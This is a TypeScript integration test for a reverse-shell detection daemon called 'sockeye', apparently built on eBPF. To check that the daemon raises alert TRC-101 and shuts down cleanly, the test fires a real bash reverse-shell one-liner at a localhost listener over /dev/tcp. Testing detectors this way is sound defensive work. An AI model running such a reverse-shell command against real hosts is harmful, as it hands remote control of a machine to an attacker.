/**
 * `sockeye run` as users run it: a child process, "ready" on stderr, a finding on stdout for a
 * real reverse shell, SIGTERM → exit 0 with none of its programs left in the kernel.
 */
import { describe, expect, it } from "vitest";
import { spawn } from "node:child_process";
import { bpftoolProgramIds, bpftoolProgramNames, kernelTier, programIdsHeldBy, run, tcpListener } from "./harness.js";

const tier = kernelTier();
const OUR_PROGRAMS = ["handle_dup2_exit", "handle_exec", "handle_connect_exit"];

describe.runIf(tier.run)("kernel: sockeye run", () => {
  it("ready, a finding for a real reverse shell, then a clean SIGTERM", async () => {
    const daemon = spawn(process.execPath, ["dist/cli/main.js", "run"], { stdio: ["ignore", "pipe", "pipe"] });
    let stdout = "", stderr = "";
    daemon.stdout.on("data", (d) => (stdout += d));
    const ready = new Promise<void>((resolve, reject) => {
      daemon.stderr.on("data", (d) => { stderr += d; if (stderr.includes("ready")) resolve(); });
      daemon.on("exit", (code) => reject(new Error(`exited ${code} before ready: ${stderr}`)));
    });
    await ready;
    expect(bpftoolProgramNames()).toEqual(expect.arrayContaining(OUR_PROGRAMS));
    // This daemon's own programs: other sensors may be loaded in this kernel meanwhile.
    const held = programIdsHeldBy(daemon.pid!);
    expect(held.length).toBeGreaterThanOrEqual(OUR_PROGRAMS.length);

    const catcher = await tcpListener("127.0.0.1", "exit\n");
    const port = catcher.port;
    await run("timeout", ["-s", "KILL", "5", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`]);
    await new Promise((r) => setTimeout(r, 500));

    const exited = new Promise<number | null>((resolve) => daemon.on("exit", (code) => resolve(code)));
    daemon.kill("SIGTERM");
    expect(await exited).toBe(0);
    await catcher.close();

    const findings = stdout.trim().split("\n").filter(Boolean).map((l) => JSON.parse(l));
    const ours = findings.filter((f) => f.rule.id === "TRC-101" && f.finding.Port === String(port));
    expect(ours.length).toBeGreaterThanOrEqual(1);
    expect(ours[0]).toMatchObject({
      event: { kind: "alert" },
      rule: { id: "TRC-101", name: "Process standard input/output over socket detected" },
      destination: { ip: "127.0.0.1", port },
      process: { name: "bash" },
      finding: { "IP address": "127.0.0.1", Port: String(port) },
    });
    expect(stderr).toMatch(/"message":"stopped","signal":"SIGTERM"/);
    // The kernel frees detached programs after an RCU grace period: give it a moment.
    let left: number[] = [];
    for (let i = 0; i < 40; i++) {
      const loaded = new Set(bpftoolProgramIds());
      left = held.filter((id) => loaded.has(id));
      if (!left.length) break;
      await new Promise((r) => setTimeout(r, 100));
    }
    expect(left).toEqual([]);
  });

  it("bad flags exit 2 with one line", async () => {
    const r = await run(process.execPath, ["dist/cli/main.js", "run", "--stdio-fd-max", "-3"]);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/--stdio-fd-max must be an integer from 0 to 1023/);
  });
});
